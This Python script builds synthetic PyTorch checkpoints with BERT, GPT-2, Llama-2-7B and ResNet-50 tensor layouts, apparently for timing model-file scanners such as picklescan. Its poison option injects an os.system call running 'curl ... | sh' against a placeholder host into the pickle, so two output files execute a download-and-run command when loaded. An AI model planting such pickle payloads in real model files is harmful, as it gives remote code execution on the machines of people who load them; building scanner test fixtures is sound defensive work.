#!/usr/bin/env python3
"""Write PyTorch checkpoints shaped like real models, without PyTorch, for timing model-file scanners.

Usage:
    checkpoints.py OUT_DIR

Each file is what `torch.save(model.state_dict(), path)` writes (the zip format of PyTorch >= 1.6):
`archive/data.pkl` (a protocol-2 pickle of an OrderedDict of tensors rebuilt by
`torch._utils._rebuild_tensor_v2` from persistent storage ids, globals memoized as torch memoizes them),
`archive/data/N` (one storage per tensor), `archive/version` and `archive/byteorder`. The tensor names and
shapes are those of BERT-base, GPT-2, Llama-2-7B and ResNet-50. Storages hold 64 bytes instead of the real
weights: with hashing off neither Vigil nor picklescan reads them, so their size does not change the timing,
and the files stay small. Two more files carry an injected `os.system` call, as a poisoned checkpoint would.

The pickles are written opcode by opcode (no object is ever pickled or unpickled here).
"""

import io
import os
import struct
import sys
import zipfile


class Emitter:
    """A protocol-2 pickle stream with memoized globals, as torch.save writes it."""

    def __init__(self):
        self.out = bytearray(b"\x80\x02")  # PROTO 2
        self.memo = {}  # global -> memo index
        self.next = 0  # next memo index

    def put(self):
        """Memoizes the value on top of the stack (BINPUT / LONG_BINPUT) and returns its index."""
        i = self.next
        self.next += 1
        self.out += b"q" + bytes([i]) if i < 256 else b"r" + struct.pack("<I", i)
        return i

    def glob(self, module, name):
        key = (module, name)
        if key in self.memo:
            i = self.memo[key]
            self.out += b"h" + bytes([i]) if i < 256 else b"j" + struct.pack("<I", i)  # BINGET / LONG_BINGET
            return
        self.out += b"c" + module.encode() + b"\n" + name.encode() + b"\n"  # GLOBAL
        self.memo[key] = self.put()

    def text(self, s):
        b = s.encode()
        self.out += b"X" + struct.pack("<I", len(b)) + b  # BINUNICODE
        self.put()

    def int(self, n):
        self.out += b"K" + bytes([n]) if 0 <= n < 256 else b"J" + struct.pack("<i", n)  # BININT1 / BININT

    def ints(self, values):
        self.out += b"("  # MARK
        for v in values:
            self.int(v)
        self.out += b"t"  # TUPLE

    def tensor(self, key, storage, shape):
        numel = 1
        for d in shape:
            numel *= d
        strides, acc = [], 1
        for d in reversed(shape):
            strides.insert(0, acc)
            acc *= d
        self.glob("torch._utils", "_rebuild_tensor_v2")
        self.out += b"("  # MARK: the arguments
        self.out += b"("  # MARK: the persistent id
        self.text("storage")
        self.glob("torch", storage)
        self.text(key)
        self.text("cpu")
        self.int(min(numel, 2**31 - 1))
        self.out += b"tQ"  # TUPLE, BINPERSID
        self.int(0)  # storage offset
        self.ints(shape)
        self.ints(strides)
        self.out += b"\x89"  # NEWFALSE: requires_grad
        self.glob("collections", "OrderedDict")
        self.out += b")R"  # EMPTY_TUPLE, REDUCE: backward hooks
        self.out += b"tR"  # TUPLE, REDUCE

    def state_dict(self, tensors, poison=False):
        self.glob("collections", "OrderedDict")
        self.out += b")R"  # an empty OrderedDict
        self.out += b"("  # MARK for SETITEMS
        for i, (name, storage, shape) in enumerate(tensors):
            self.text(name)
            self.tensor(str(i), storage, shape)
        if poison:
            self.text("_metadata")
            self.glob("os", "system")
            self.out += b"("
            self.text("curl -s https://example.invalid/x | sh")
            self.out += b"tR"
        self.out += b"u."  # SETITEMS, STOP
        return bytes(self.out)


def bert_base():
    t = [("embeddings.word_embeddings.weight", [30522, 768]), ("embeddings.position_embeddings.weight", [512, 768]),
         ("embeddings.token_type_embeddings.weight", [2, 768]), ("embeddings.LayerNorm.weight", [768]),
         ("embeddings.LayerNorm.bias", [768])]
    for i in range(12):
        p = f"encoder.layer.{i}."
        for n in ("attention.self.query", "attention.self.key", "attention.self.value", "attention.output.dense"):
            t += [(p + n + ".weight", [768, 768]), (p + n + ".bias", [768])]
        t += [(p + "attention.output.LayerNorm.weight", [768]), (p + "attention.output.LayerNorm.bias", [768]),
              (p + "intermediate.dense.weight", [3072, 768]), (p + "intermediate.dense.bias", [3072]),
              (p + "output.dense.weight", [768, 3072]), (p + "output.dense.bias", [768]),
              (p + "output.LayerNorm.weight", [768]), (p + "output.LayerNorm.bias", [768])]
    t += [("pooler.dense.weight", [768, 768]), ("pooler.dense.bias", [768])]
    return [(n, "FloatStorage", s) for n, s in t]


def gpt2():
    t = [("wte.weight", [50257, 768]), ("wpe.weight", [1024, 768])]
    for i in range(12):
        p = f"h.{i}."
        t += [(p + "ln_1.weight", [768]), (p + "ln_1.bias", [768]), (p + "attn.c_attn.weight", [768, 2304]),
              (p + "attn.c_attn.bias", [2304]), (p + "attn.c_proj.weight", [768, 768]), (p + "attn.c_proj.bias", [768]),
              (p + "ln_2.weight", [768]), (p + "ln_2.bias", [768]), (p + "mlp.c_fc.weight", [768, 3072]),
              (p + "mlp.c_fc.bias", [3072]), (p + "mlp.c_proj.weight", [3072, 768]), (p + "mlp.c_proj.bias", [768])]
    t += [("ln_f.weight", [768]), ("ln_f.bias", [768])]
    return [(n, "FloatStorage", s) for n, s in t]


def llama2_7b():
    t = [("model.embed_tokens.weight", [32000, 4096])]
    for i in range(32):
        p = f"model.layers.{i}."
        t += [(p + f"self_attn.{x}_proj.weight", [4096, 4096]) for x in "qkvo"]
        t += [(p + "mlp.gate_proj.weight", [11008, 4096]), (p + "mlp.up_proj.weight", [11008, 4096]),
              (p + "mlp.down_proj.weight", [4096, 11008]), (p + "input_layernorm.weight", [4096]),
              (p + "post_attention_layernorm.weight", [4096])]
    t += [("model.norm.weight", [4096]), ("lm_head.weight", [32000, 4096])]
    return [(n, "HalfStorage", s) for n, s in t]


def resnet50():
    t = []

    def bn(p, c):
        t.extend([(p + ".weight", "FloatStorage", [c]), (p + ".bias", "FloatStorage", [c]),
                  (p + ".running_mean", "FloatStorage", [c]), (p + ".running_var", "FloatStorage", [c]),
                  (p + ".num_batches_tracked", "LongStorage", [])])

    t.append(("conv1.weight", "FloatStorage", [64, 3, 7, 7]))
    bn("bn1", 64)
    inplanes = 64
    for li, (blocks, planes) in enumerate([(3, 64), (4, 128), (6, 256), (3, 512)], start=1):
        for b in range(blocks):
            p = f"layer{li}.{b}"
            t.append((p + ".conv1.weight", "FloatStorage", [planes, inplanes, 1, 1]))
            bn(p + ".bn1", planes)
            t.append((p + ".conv2.weight", "FloatStorage", [planes, planes, 3, 3]))
            bn(p + ".bn2", planes)
            t.append((p + ".conv3.weight", "FloatStorage", [planes * 4, planes, 1, 1]))
            bn(p + ".bn3", planes * 4)
            if b == 0:
                t.append((p + ".downsample.0.weight", "FloatStorage", [planes * 4, inplanes, 1, 1]))
                bn(p + ".downsample.1", planes * 4)
            inplanes = planes * 4
    t += [("fc.weight", "FloatStorage", [1000, 2048]), ("fc.bias", "FloatStorage", [1000])]
    return t


MODELS = {"bert-base": bert_base, "gpt2": gpt2, "llama-2-7b": llama2_7b, "resnet-50": resnet50}


def checkpoint(tensors, poison=False):
    data = Emitter().state_dict(tensors, poison)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data)
        for i in range(len(tensors)):
            z.writestr(f"archive/data/{i}", bytes(64))
        z.writestr("archive/version", b"3\n")
        z.writestr("archive/byteorder", b"little")
    return buf.getvalue()


def write_all(out_dir):
    """Writes the set (five of each model, two poisoned) and returns the paths, sorted."""
    os.makedirs(out_dir, exist_ok=True)
    paths = []
    for name, make in MODELS.items():
        tensors = make()
        for i in range(5):
            paths.append(os.path.join(out_dir, f"{name}-{i}.pt"))
            with open(paths[-1], "wb") as f:
                f.write(checkpoint(tensors))
    for name in ("gpt2", "resnet-50"):
        paths.append(os.path.join(out_dir, f"{name}-poisoned.pt"))
        with open(paths[-1], "wb") as f:
            f.write(checkpoint(MODELS[name](), poison=True))
    return sorted(paths)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    for p in write_all(sys.argv[1]):
        print(p, os.path.getsize(p))
